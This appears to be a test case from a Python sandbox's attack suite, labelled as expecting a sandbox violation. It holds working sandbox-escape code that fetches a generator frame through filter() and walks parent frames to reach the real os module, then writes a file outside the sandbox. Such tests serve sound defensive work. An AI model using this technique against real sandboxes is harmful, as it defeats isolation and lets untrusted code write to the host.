# Attack a016: filter() drives a generator whose frame it never checks.
# expect: sandbox_violation
# stage: preview
# effect: write
# covers: RestrictedPython advisory: iteration in C (filter over a generator)
# calibrate: live

def escalate(fr):
    """Walks the frames outward; the first real __import__ or os wins."""
    while fr is not None:
        for ns in (getattr(fr, "f_globals"), getattr(fr, "f_builtins")):
            try:
                imp = ns["__import__"]
                o = imp("os")
                fd = o.open("{OUTSIDE_FILE}", o.O_WRONLY | o.O_CREAT, 420)
                o.write(fd, b"escaped")
                o.close(fd)
                return True
            except Exception:
                pass
        fr = getattr(fr, "f_back")
    return False

def transform(df):
    def gen():
        yield getattr(g, "gi" + "_frame")
    g = gen()
    for fr in filter(None, g):
        escalate(fr)
    return df
